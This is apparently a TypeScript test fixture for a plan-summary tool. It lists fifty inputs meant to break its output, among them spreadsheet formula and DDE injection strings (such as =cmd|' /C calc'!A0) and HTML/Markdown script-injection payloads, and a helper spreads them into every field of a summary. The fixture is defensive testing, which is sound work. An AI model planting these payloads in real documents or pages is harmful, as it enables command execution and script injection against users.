import type { Summary } from "../src/model/summary";
import { defaultSettings } from "../src/model/settings";
import { summarise } from "../src/summary/summarise";
import { reviewExample } from "./rules/example";

/** Fifty texts that a spreadsheet, a browser, a Word or a Markdown reader would take for more than words. */
export const hostile: readonly string[] = [
  '=HYPERLINK("http://example.org","Click")',
  "=1+1",
  "=cmd|' /C calc'!A0",
  "=SUM(A1:A9)",
  "=A1",
  '=WEBSERVICE("http://example.org/"&A1)',
  '=IMPORTXML("http://example.org","//a")',
  '=DDE("cmd";"/C calc";"x")',
  "={1,2}",
  "==1",
  "=-1",
  "=@A1",
  "+1",
  "+44 1632 960123",
  "+cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "+A1",
  "-1",
  "-2+3+cmd|' /C calc'!A0",
  "-A1",
  "- item",
  "--1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@A1",
  "@somebody",
  "\t=1+1",
  "\t+1",
  "\t@SUM(1)",
  "\n=1+1",
  "\n-1",
  "\r\n+1",
  "\r=1+1",
  "\u00a0=1+1",
  "  =1+1",
  "'=1+1",
  '"=1+1"',
  "1\t=1+1",
  "x\n=1+1",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "<a href=javascript:alert(1)>x</a>",
  "]]><!--",
  "[click](javascript:alert(1))",
  "![x](http://example.org/x.png)",
  "| a | b |",
  "**bold** `code` _it_",
  "&lt;b&gt; &amp; &#61;1",
  "# Heading",
  '{ HYPERLINK "http://example.org" }',
  "1e9 TRUE 01/02",
];

/** The fifty as the lines of a plan that a reader could make of them: each in every field of an action of its own. */
export function hostileSummaryOf(texts: readonly string[]): Summary {
  const report = reviewExample({
    title: "=1+1",
    rows: texts.map((_, index) => ({
      outcome: `${index + 1}. x`,
      due: "31 December 2026 (Revised to 31 March 2027 due to x)",
    })),
  });
  const summary = summarise(report, defaultSettings, {
    meeting: "2027-04-30",
    circulated: null,
    since: null,
  });
  const text = (index: number) => texts[index] ?? "";
  const named = (index: number) => ({ label: text(index), subject: text(index), lead: text(index) });
  const tallies = texts.map((name) => ({ ...summary.total, name }));
  return {
    ...summary,
    title: text(0),
    bodies: texts,
    headline: texts,
    age: text(1),
    planDate: { day: "2026-12-31", words: text(2) },
    bySector: tallies,
    bySection: tallies,
    byOrganisation: tallies,
    bySource: tallies,
    open: summary.open.map((action, index) => ({
      ...action,
      ...named(index),
      nowDue: null,
      dueWords: text(index),
      reason: text(index),
    })),
    doubtful: summary.open.map(({ place }, index) => ({
      ...named(index),
      place,
      noEvidence: true,
      says: text(index),
      stillToDo: text(index),
    })),
    slips: summary.slips.map((slip, index) => ({
      ...slip,
      ...named(index),
      reason: text(index),
      agreedBy: text(index),
    })),
    acronyms: texts.map((short) => ({ short, meaning: short })),
  };
}
